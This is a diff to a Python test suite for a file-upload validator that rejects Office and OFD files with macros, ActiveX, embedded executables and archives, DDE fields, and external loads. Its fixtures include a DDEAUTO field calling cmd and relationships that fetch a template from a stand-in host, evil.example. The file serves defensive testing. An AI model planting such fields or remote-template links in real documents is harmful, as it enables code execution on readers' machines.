@@ -25,8 +25,9 @@ TOO_MANY_PARTS = "文件内部的部件太多，请用 Word、Excel 或 WPS 另�
 BOMB = "文件解压后过大，不能接收，请删减内容、另存一份后上传。"
 DTD = "文件内部含有外部定义（DTD），可能有危险，请用 Word、Excel 或 WPS 另存一份后上传。"
 PATHS = "文件内部的路径不正常，可能有危险，请用 Word、Excel 或 WPS 另存一份后上传。"
-MACROS = "文件带有宏，不能接收，请另存为不带宏的 docx 或 xlsx 后上传。"
-LOCKED = "文件设有密码或是旧格式（doc、xls），请去掉密码并另存为 docx 或 xlsx 后上传。"
+MACROS = "文件带有宏（%s），不能接收，请另存为不带宏的 docx 或 xlsx 后上传。"
+LOCKED = "文件设有打开密码（加密），请去掉密码、另存一份后上传。"
+OLD = "文件是旧格式（doc、xls），请用 Word、Excel 或 WPS 另存为 docx 或 xlsx 后上传。"
 NOT_WORD = "文件不是真正的 Word 文档（docx），请用 Word 或 WPS 另存为 docx 后上传。"
 NOT_EXCEL = "文件不是真正的 Excel 表格（xlsx），请用 Excel 或 WPS 另存为 xlsx 后上传。"
 
@@ -154,21 +155,104 @@ def test_a_zip_that_is_no_office_file_is_refused_by_what_it_lacks():
 
 
 def test_macros_are_refused_by_part_and_by_declaration():
-    assert refusal("a.docx", docx_with({"word/vbaProject.bin": b"x"})) == MACROS
+    assert refusal("a.docx", docx_with({"word/vbaProject.bin": b"x"})) == (
+        MACROS % "word/vbaProject.bin"
+    )
+    assert refusal("a.docx", docx_with({"xl/macrosheets/sheet1.xml": b"<x/>"})) == (
+        MACROS % "xl/macrosheets/sheet1.xml"
+    )
     declared = b'><Default ContentType="x.document.macroEnabled.main+xml"/></Types>'
     types = TYPES.replace(b"/>", declared)
     whole = archive({"[Content_Types].xml": types, "word/document.xml": DOCUMENT})
-    assert refusal("a.docx", whole) == MACROS
+    assert refusal("a.docx", whole) == MACROS % "[Content_Types].xml"
 
 
 def test_a_document_under_a_password_and_an_old_doc_are_refused_with_what_to_do():
-    assert refusal("a.docx", OLE) == LOCKED
+    assert refusal("a.docx", OLE) == OLD
+    assert refusal("a.docx", OLE + "EncryptedPackage".encode("utf-16-le")) == LOCKED
+    assert refusal("a.xlsx", OLE + "EncryptedPackage".encode("utf-16-le")) == LOCKED
     assert refusal("a.docx", docx_under_password_flag()) == LOCKED
 
 
 def test_a_document_packed_in_an_unusual_way_is_refused():
     parts = {"[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT}
     assert refusal("a.docx", archive(parts, compress_type=zipfile.ZIP_LZMA)) == DAMAGED
+
+
+# --- what would run, unfold or be fetched when somebody opens it --------------------------------
+
+
+@pytest.mark.parametrize(
+    ("part", "content", "named"),
+    [
+        (
+            "word/activeX/activeX1.xml",
+            b"<x/>",
+            "文件里有 ActiveX 控件（word/activeX/activeX1.xml）",
+        ),
+        ("word/embeddings/oleObject1.bin", OLE, "文件里嵌有其他程序的对象（word/embeddings/oleObj"),
+        (
+            "word/embeddings/a.zip",
+            archive({"a": b"x"}),
+            "文件里又装着压缩包（word/embeddings/a.zip）",
+        ),
+        (
+            "word/media/image1.png",
+            b"Rar!\x1a\x07\x00",
+            "文件里又装着压缩包（word/media/image1.png）",
+        ),
+        ("word/media/a.bin", b"MZ\x90\x00", "文件里藏有程序（word/media/a.bin）"),
+        (
+            "word/footer1.xml",
+            b"<w:p><w:instrText> DDEAUTO c:\\cmd</w:instrText></w:p>",
+            "文件里有会启动其他程序的域（DDE，word/footer1.xml）",
+        ),
+    ],
+)
+def test_a_document_with_something_that_runs_or_unfolds_is_refused_by_name(part, content, named):
+    assert refusal("a.docx", docx_with({part: content})).startswith(named)
+
+
+@pytest.mark.parametrize(
+    ("kind", "named"),
+    [
+        ("attachedTemplate", "文件里有从别处加载的模板（http://evil.example/t.dotm）"),
+        ("oleObject", "文件里有链接到外部的对象（http://evil.example/t.dotm）"),
+        ("image", "文件里有从别处加载的图片（http://evil.example/t.dotm）"),
+        ("frame", "文件里有从别处加载的框架（http://evil.example/t.dotm）"),
+    ],
+)
+def test_what_would_be_fetched_on_opening_is_refused_and_a_link_to_click_on_is_not(kind, named):
+    def relations(of: str) -> bytes:
+        target = 'Target="http://evil.example/t.dotm" TargetMode="External"'
+        return (
+            XML + f'<Relationships><Relationship Type="x/{of}" {target}/></Relationships>'.encode()
+        )
+
+    hostile = docx_with({"word/_rels/settings.xml.rels": relations(kind)})
+    assert refusal("a.docx", hostile).startswith(named)
+    linked = docx_with({"word/_rels/document.xml.rels": relations("hyperlink")})
+    assert check_file(io.BytesIO(linked), name="a.docx").name == "a.docx"
+
+
+def test_the_workbook_behind_a_chart_passes_but_is_looked_into():
+    part = "word/embeddings/Microsoft_Excel_Sheet1.xlsx"
+    assert check_file(io.BytesIO(docx_with({part: xlsx()})), name="a.docx").name == "a.docx"
+    inner = archive({"[Content_Types].xml": TYPES, "xl/vbaProject.bin": b"x"})
+    assert refusal("a.docx", docx_with({part: inner})) == MACROS % "xl/vbaProject.bin"
+    deeper = archive({"[Content_Types].xml": TYPES, "xl/embeddings/b.xlsx": xlsx()})
+    assert refusal("a.docx", docx_with({part: deeper})) == TOO_MANY_PARTS
+
+
+# --- the state's own page format -------------------------------------------------------------------
+
+
+def test_an_ofd_passes_and_what_only_calls_itself_one_does_not():
+    page = {"OFD.xml": XML + b"<ofd:OFD/>", "Doc_0/Document.xml": XML + b"<x/>"}
+    checked = check_file(io.BytesIO(archive(page)), name="红头文件.ofd")
+    assert (checked.name, checked.media_type) == ("红头文件.ofd", "application/ofd")
+    assert refusal("a.ofd", docx_with({})) == "文件不是真正的 OFD 版式文件，请重新导出后上传。"
+    assert refusal("a.ofd", archive({**page, "Doc_0/x.xml": LAUGHS})) == DTD
 
 
 def _directory_entries(whole: bytearray) -> list[int]:
